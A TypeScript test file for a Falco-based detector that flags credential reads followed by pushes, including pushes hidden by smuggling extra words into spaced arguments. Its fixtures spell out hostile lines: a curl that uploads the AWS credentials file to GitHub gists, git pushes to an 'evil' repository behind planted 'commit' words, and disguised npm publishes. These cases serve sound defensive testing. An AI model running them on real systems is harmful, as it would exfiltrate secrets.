/**
 * Falco joins argv with spaces and quotes nothing, so an argument holding a space plants words: `git -c "x=1
 * commit y" push URL` arrived as `-c x=1 commit y push URL`, read as `git commit` (found by review; Tetragon
 * quotes). The shipped exec rule prints `proc.cmdnargs`, the normalizer marks words that outnumber it, and a
 * table tool so marked is a push when a grouping of its words into that many arguments is one.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import {
  MAX_ARGV_READING_BYTES,
  MAX_ARGV_READINGS,
  otherReadingPush,
  readingsOf,
} from '../../../src/rules/joined-argv.js';
import { pushTools } from '../../../src/rules/push-tools.js';
import { falcoRun } from '../../fixtures/falco/credential-run.js';
import { brief, runResolved } from '../correlate/builder.js';

const API_GITHUB = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
const GITHUB = '140.82.112.3'; // github.com

const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;

describe('an argv whose arguments hold spaces, as Falco joins it', () => {
  it('is marked with its argument count only when its words outnumber it or hold quotes', () => {
    const [spaced] = falcoRun('/usr/bin/git', ['git', '-c', 'x=1 commit y', 'push', 'https://x/y.git'], GITHUB);
    expect(spaced?.kind === 'exec' ? spaced.process.argvCount : null).toBe(4);
    const [plain] = falcoRun('/usr/bin/git', ['git', 'push', 'origin'], GITHUB);
    expect(plain?.kind === 'exec' ? plain.process.argvCount : null).toBeUndefined();
    const [quoted] = falcoRun('/usr/bin/git', ['git', "-c=x='", 'push', "'"], GITHUB);
    expect(quoted?.kind === 'exec' ? quoted.process.argvCount : null).toBe(3);
  });

  it('groups words every way into the count, one-argument readings first', () => {
    const all = [...readingsOf(['a', 'b', 'c', 'd'], 2)].map((r) => r.join('|'));
    expect(all.slice(0, 2)).toEqual(['a b c|d', 'a|b c d']);
    expect(new Set(all)).toEqual(new Set(['a b c|d', 'a b|c d', 'a|b c d']));
  });

  it('takes a push hidden behind planted words for one, with its remote', async () => {
    const git = ['git', '-c', 'x=1 commit y', 'push', 'https://github.com/evil/x.git'];
    // git connecting itself stands for the transport; its helper's own recognition is another path.
    const alerts = await alertsOf(falcoRun('/usr/bin/git', git, GITHUB));
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]?.push.remote).toBe('https://github.com/evil/x.git');
    // A planted `--` ends curl's options before its upload flag in the plain reading.
    const curl = ['curl', '-H', 'X: --', '-d', '@/root/.aws/credentials', 'https://api.github.com/gists'];
    expect(brief(await alertsOf(falcoRun('/usr/bin/curl', curl, API_GITHUB)))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
    ]);
    // A planted `fetch` made it a download.
    const fetch = ['git', '-c', 'x=1 fetch y', 'push', 'https://github.com/evil/x.git'];
    expect(brief(await alertsOf(falcoRun('/usr/bin/git', fetch, GITHUB)))).toHaveLength(1);
  });

  it('leaves CI command lines with spaced arguments alone', async () => {
    const shapes: Array<[string, string[], string]> = [
      ['/usr/bin/git', ['git', '-c', 'http.extraheader=AUTHORIZATION: bearer TOKEN', 'fetch', 'origin'], GITHUB],
      ['/usr/bin/git', ['git', 'commit', '-m', 'fix push bug'], GITHUB],
      ['/usr/bin/curl', ['curl', '-H', 'Authorization: Bearer x', 'https://api.github.com/user'], API_GITHUB],
      ['/usr/bin/gh', ['gh', 'issue', 'comment', '12', '--body', 'push docs after the release upload'], API_GITHUB],
      // A long flag holding a space in its name is an error (or argparse's positional), never a flag owning the
      // next text: `--repo acme/app pr` owning `edit 12` left `release upload` the sub-command.
      [
        '/usr/bin/gh',
        [
          'gh',
          ...'--repo acme/app pr edit 12 --title'.split(' '),
          'fix the release',
          '--body',
          'run release upload v1 a.tgz',
        ],
        API_GITHUB,
      ],
      // After the push word too: `--dry-run --config net.git-fetch-with-cli` is no flag cargo (clap) takes.
      ['/usr/local/bin/cargo', ['cargo', 'publish', '--dry-run', '--config', 'net.git-fetch-with-cli = true'], GITHUB],
    ];
    for (const [exe, argv, ip] of shapes) expect(await alertsOf(falcoRun(exe, argv, ip)), argv.join(' ')).toEqual([]);
  });
});

describe('what the readings cost', () => {
  const count = (args: string, argvCount: number, binary = '/usr/bin/git') => {
    let calls = 0;
    const view = { binary, args, parentBinary: '/bin/sh', parentArgs: null, argvCount };
    otherReadingPush(view, pushTools, () => {
      calls++;
      return null;
    });
    return calls;
  };
  const words = (n: number, w = 'word') => Array.from({ length: n }, (_, i) => `${w}${i}`).join(' ');

  it('tries none for a sub-command tool when no word starts one of its pushes', () => {
    expect(count(`commit -m ${words(30)}`, 3)).toBe(0);
  });

  it('tries only the groupings that put a push word where git reads its sub-command', () => {
    // `commit` comes first whatever the grouping: no push word can be the sub-command, so nothing is tried.
    expect(count('commit -m fix the push bug in ci', 3)).toBe(0);
    // After `-c user.name=bot`, `push` can be, with `origin` its remote: one reading.
    expect(count('-c user.name=bot commit -m push origin', 5)).toBe(1);
    // Here the words after `push` would have to be one spaced positional: the rest of a text, not a push.
    expect(count(`-c user.name=bot commit -m push ${words(30)}`, 5)).toBe(0);
  });

  it('lists the other shapes’ groupings up to MAX_ARGV_READINGS, and up to MAX_ARGV_READING_BYTES of them', () => {
    // httpie's data items are any word with `=` or `@`: its groupings are listed, not searched.
    expect(count(`-v POST https://api.github.com/x ${words(20)}`, 5, '/usr/bin/http')).toBe(MAX_ARGV_READINGS);
    const long = `-v POST https://api.github.com/x ${words(300)}`;
    const tried = count(long, 5, '/usr/bin/http');
    expect(tried).toBeGreaterThan(1);
    expect(tried).toBeLessThanOrEqual(Math.ceil(MAX_ARGV_READING_BYTES / long.length));
  });
});

/** Falco's alerts for: `argv` runs as one process that reads the AWS credentials and exits, connecting nowhere. */
function falcoLocalRun(exepath: string, argv: readonly string[]): NormalizedEvent[] {
  return falcoRun(exepath, argv, GITHUB).filter((e) => e.kind !== 'net');
}

describe('readings of a spaced argv, red-team review', () => {
  it('counts a tab or a newline inside an argument as Falco does not: the words are read every way', async () => {
    // tokenize() splits at tabs and newlines too: `x=1<TAB>commit` planted `commit` with as many spaces as arguments.
    for (const sep of ['\t', '\n']) {
      const git = ['git', '-c', `x=1${sep}commit`, 'push', 'https://github.com/evil/x.git'];
      const [exec] = falcoRun('/usr/bin/git', git, GITHUB);
      expect(exec?.kind === 'exec' ? exec.process.argvCount : null).toBe(4);
      expect(brief(await alertsOf(falcoRun('/usr/bin/git', git, GITHUB)))).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
      ]);
    }
  });

  it('keeps a spaced long flag a flag under npm’s nopt, which takes `--dry-run y` for an option of its own', async () => {
    // nopt reads `--dry-run y` as an option named `dry-run y` (owning a next word) and publishes; `--dry-run`
    // owning `y` or `y z` is a dry run, a grouping as good to the parser states, and the one rebuilt first.
    for (const npm of [
      ['npm', '--dry-run y', 'publish'],
      ['npm', '--dry-run y', 'z', 'publish'],
      ['npm', '--dry-run y', 'false', 'publish'],
    ])
      expect(brief(await alertsOf(falcoLocalRun('/usr/bin/npm', npm))), npm.join(' ')).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'npm', destination: 'registry.npmjs.org' },
      ]);
  });

  it('takes a CI bot commit whose message says push for no push: a regrouped git push waits for its transport', async () => {
    const commits = [
      ['git', '-c', 'user.name=bot', 'commit', '-m', 'push release notes'],
      ['git', '-c', 'user.name=ci-bot', '-c', 'user.email=ci@acme.dev', 'commit', '-am', 'chore: push the new tag'],
      ['git', '-C', '/workspace/src', 'commit', '-m', 'ci: push docs'],
      ['git', '-c', 'user.name=bot', 'commit', '-m', 'fix lfs push flags'],
    ];
    for (const argv of commits) expect(await alertsOf(falcoLocalRun('/usr/bin/git', argv)), argv.join(' ')).toEqual([]);
  });
});
